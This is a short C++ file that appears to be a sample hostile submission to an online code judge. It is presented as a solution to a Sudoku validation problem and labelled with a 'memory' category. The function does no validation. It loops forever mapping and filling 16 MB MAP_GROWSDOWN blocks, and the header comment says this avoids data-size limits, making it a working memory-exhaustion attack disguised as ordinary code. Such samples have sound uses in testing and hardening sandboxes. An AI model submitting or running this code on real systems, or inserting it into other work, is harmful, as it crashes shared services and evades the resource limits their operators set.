// Maps memory that grows like a stack, which data limits do not count.
// Category: memory
#include <sys/mman.h>

class Solution {
public:
    bool isValidSudoku(vector<vector<char>>& board) {
        for (;;) {
            char* block = static_cast<char*>(mmap(nullptr, 1 << 24, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_GROWSDOWN, -1, 0));
            memset(block, 1, 1 << 24);
        }
    }
};
